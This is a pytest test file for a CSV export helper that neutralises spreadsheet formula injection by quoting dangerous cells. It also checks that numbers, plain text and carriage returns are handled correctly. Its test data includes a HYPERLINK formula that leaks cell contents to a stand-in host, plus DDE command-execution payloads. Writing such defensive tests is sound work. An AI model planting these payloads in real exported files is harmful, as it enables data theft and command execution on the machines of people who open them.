"""Cells a spreadsheet would run as formulas are written quoted; numbers and text are not; a
carriage return never ends a row early."""

import csv
import io

import pandas as pd
import pytest

from healthcare_assets.plumbing import csv_cells

FORMULAS = [
    '=HYPERLINK("http://x?leak="&B3&C3,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\tanything", "  =1+1", "\n@x", "-", "+", "- 5", "-1+1", "-inf", "=", "-1e5x",
]
LEFT_AS_THEY_ARE = [
    "-123.4", "+5", "-1e5", " -3 ", "-.5", "5.", "42", "Bobby Jackson", "", "A+", "B-", "x=1",
    "Billing Amount: not a number (got '=1+1')", "'=1+1",  # a reason; a cell already quoted
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_quoted(cell):
    assert csv_cells.neutralized(cell) == "'" + cell


@pytest.mark.parametrize("cell", LEFT_AS_THEY_ARE)
def test_numbers_text_and_quoted_cells_are_left_as_they_are(cell):
    assert csv_cells.neutralized(cell) == cell


@pytest.mark.parametrize("cell", FORMULAS + [c for c in LEFT_AS_THEY_ARE if not c.startswith("'")])
def test_a_cell_read_back_is_what_was_neutralized(cell):
    assert csv_cells.as_written(csv_cells.neutralized(cell)) == cell


def test_values_that_are_not_text_are_left_as_they_are():
    assert [csv_cells.neutralized(v) for v in (-12.5, -3, None)] == [-12.5, -3, None]


def test_to_csv_quotes_every_formula_and_keeps_numbers_header_and_reasons():
    frame = pd.DataFrame({"line_number": [2, 3], "Name": ["=1+1", None], "Billing Amount": ["-12.5", "@x"],
                          "amount": [-12.5, 3.0], "reason": ["Age: not a whole number (got '-x')", "r"]})
    written = io.StringIO()
    csv_cells.to_csv(frame, written)
    assert written.getvalue() == ("line_number,Name,Billing Amount,amount,reason\n"
                                  "2,'=1+1,-12.5,-12.5,Age: not a whole number (got '-x')\n"
                                  "3,,'@x,3.0,r\n")
    assert frame["Name"].iloc[0] == "=1+1"  # the caller's frame is not changed
    assert written.getvalue() == pd.DataFrame({**frame, "Name": ["'=1+1", None], "Billing Amount": ["-12.5", "'@x"]}
                                              ).to_csv(index=False)  # as pandas writes it


def test_a_carriage_return_in_a_cell_does_not_end_the_row():
    frame = pd.DataFrame({"Name": ["Ann", "a\r@x", "Bo"], "Age": ["=1", "2", "3"]})
    written = io.StringIO()
    csv_cells.to_csv(frame, written, header=False)
    assert written.getvalue() == "Ann,'=1\n\"a\r@x\",\"2\"\nBo,3\n"
    assert list(csv.reader(io.StringIO(written.getvalue(), newline=""))) == [["Ann", "'=1"], ["a\r@x", "2"], ["Bo", "3"]]
    assert pd.read_csv(io.StringIO(written.getvalue(), newline=""), header=None, dtype=str).values.tolist() == [
        ["Ann", "'=1"], ["a\r@x", "2"], ["Bo", "3"]]


def test_writer_neutralizes_rows_as_to_csv_does():
    rows = io.StringIO()
    writer = csv_cells.Writer(rows, lineterminator="\n")
    writer.writerow(["Name", "Age"])
    writer.writerows([["+1-1", -3], ["Ann", 4]])
    assert rows.getvalue() == "Name,Age\n'+1-1,-3\nAnn,4\n"
